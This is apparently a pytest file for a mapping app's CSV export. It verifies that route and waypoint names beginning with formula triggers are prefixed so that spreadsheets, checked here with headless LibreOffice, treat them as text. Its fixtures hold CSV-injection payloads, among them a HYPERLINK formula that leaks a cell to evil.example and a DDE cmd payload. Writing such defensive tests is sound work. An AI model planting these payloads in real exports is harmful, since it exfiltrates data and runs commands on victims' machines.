"""CSV exports of hostile names open as text, never as formulas (issue 18).

Read back twice: with Python's csv module, and through LibreOffice Calc (headless, Debian
``libreoffice-calc``; scripts/test.sh installs it) converting the CSV to XLSX, whose sheet XML
says for every cell whether it is a formula (``<f>``), text or a number. A control file
written without neutralising shows that this check does see formulas.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pandas as pd
import pytest

from mapapp.core import safety
from mapapp.io import export
from mapapp.routes.route import Route

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
]
COORDS = [(-170.25, 65.5), (-168.125, 65.75), (-167.0, 66.0)]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def hostile_routes() -> list[Route]:
    return [
        Route.from_coords(f"r{i}", name, [(lon, lat, name) for lon, lat in COORDS])
        for i, name in enumerate(HOSTILE)
    ]


# --------------------------------------------------------------------------- the rule
@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1 m", "'-1 m"),
    ("@A1", "'@A1"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("Cape Dezhnev", "Cape Dezhnev"),
    ("a=b", "a=b"),
    ("", ""),
    (-168.5, -168.5),
    (0, 0),
    (None, None),
])
def test_csv_cell_prefixes_only_text_starting_with_a_trigger(value, expected):
    assert safety.csv_cell(value) == expected


# --------------------------------------------------------------------------- Python's csv
def test_waypoints_csv_reads_back_as_text_and_numbers():
    rows = list(csv.DictReader(io.StringIO(export.waypoints_csv_bytes(hostile_routes()).decode())))
    assert len(rows) == len(HOSTILE) * len(COORDS)
    for i, name in enumerate(HOSTILE):
        mine = [r for r in rows if r["route_id"] == f"r{i}"]
        for row, (lon, lat) in zip(mine, COORDS, strict=True):
            assert row["route_name"] == "'" + name
            assert row["name"] == "'" + name
            assert float(row["lon"]) == lon and float(row["lat"]) == lat
            assert row["lon"].startswith("-")  # a negative number, not neutralised


def test_profile_csv_neutralises_text_columns_only():
    table = pd.DataFrame({
        "chainage_m": [0.0, 1000.0],
        "lon": [-169.5, -169.49],
        "lat": [65.6, 65.61],
        "elevation_m": [-42.5, -50.0],
        "surface": ["=1+1", "sea"],
    })
    rows = list(csv.DictReader(io.StringIO(export.profile_csv_bytes({"-r": table}).decode())))
    assert [r["route_id"] for r in rows] == ["'-r", "'-r"]
    assert [r["surface"] for r in rows] == ["'=1+1", "sea"]
    assert [float(r["elevation_m"]) for r in rows] == [-42.5, -50.0]
    assert rows[0]["lon"] == "-169.500000"


# --------------------------------------------------------------------------- LibreOffice
def _soffice() -> str:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if not path:
        pytest.fail("LibreOffice is missing: install Debian's libreoffice-calc "
                    "(scripts/test.sh does when run as root)", pytrace=False)
    return path


def calc_cells(csv_bytes: bytes, tmp: Path) -> dict[str, tuple[str, str]]:
    """Open ``csv_bytes`` in LibreOffice Calc (UTF-8, comma, default evaluation of formulas),
    save as XLSX and return ``{cell ref: (kind, value)}`` with kind ``formula``, ``text`` or
    ``number``."""
    src = tmp / "in.csv"
    src.write_bytes(csv_bytes)
    out = tmp / "out"
    env = {**os.environ, "HOME": str(tmp / "home")}
    proc = subprocess.run(
        [_soffice(), f"-env:UserInstallation=file://{tmp / 'profile'}", "--headless",
         "--norestore", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
         str(out), str(src)],
        capture_output=True, text=True, timeout=180, env=env,
    )
    xlsx = out / "in.xlsx"
    assert xlsx.is_file(), f"LibreOffice did not convert the CSV: {proc.stdout} {proc.stderr}"
    with zipfile.ZipFile(xlsx) as zf:
        sheet = ET.fromstring(zf.read("xl/worksheets/sheet1.xml"))
        shared = [
            "".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
            for si in ET.fromstring(zf.read("xl/sharedStrings.xml")).findall("m:si", NS)
        ] if "xl/sharedStrings.xml" in zf.namelist() else []
    cells = {}
    for c in sheet.iter(f"{{{NS['m']}}}c"):
        v = c.find("m:v", NS)
        if c.find("m:f", NS) is not None:
            cells[c.get("r")] = ("formula", c.find("m:f", NS).text or "")
        elif c.get("t") == "s":
            cells[c.get("r")] = ("text", shared[int(v.text)])
        elif c.get("t") in ("str", "inlineStr"):
            cells[c.get("r")] = ("text", v.text if v is not None else "")
        else:
            cells[c.get("r")] = ("number", v.text if v is not None else "")
    return cells


@pytest.mark.slow
def test_libreoffice_sees_formulas_in_a_raw_csv(tmp_path):
    """Control: the same names written raw become formulas — the check below can fail."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["route_name", "lon"])
    w.writerows([[name, -170.25] for name in (HOSTILE[0], HOSTILE[4])])  # Calc runs "=…"
    cells = calc_cells(buf.getvalue().encode(), tmp_path)
    assert cells["A2"][0] == "formula" and cells["A3"][0] == "formula"


@pytest.mark.slow
def test_libreoffice_opens_the_export_as_text_and_numbers(tmp_path):
    data = export.waypoints_csv_bytes(hostile_routes())
    cells = calc_cells(data, tmp_path)
    header = {cells[f"{col}1"][1]: col for col in "ABCDEF"}
    assert set(header) == {"route_id", "route_name", "seq", "name", "lon", "lat"}
    assert not [ref for ref, (kind, _) in cells.items() if kind == "formula"]
    for row, (i, k) in enumerate(((i, k) for i in range(len(HOSTILE))
                                  for k in range(len(COORDS))), start=2):
        for col in ("route_name", "name"):
            kind, text = cells[f"{header[col]}{row}"]
            assert kind == "text"
            assert text.lstrip("'") == HOSTILE[i]  # shown as typed (Calc may keep the ')
        for col, want in (("lon", COORDS[k][0]), ("lat", COORDS[k][1])):
            kind, text = cells[f"{header[col]}{row}"]
            assert kind == "number" and float(text) == want
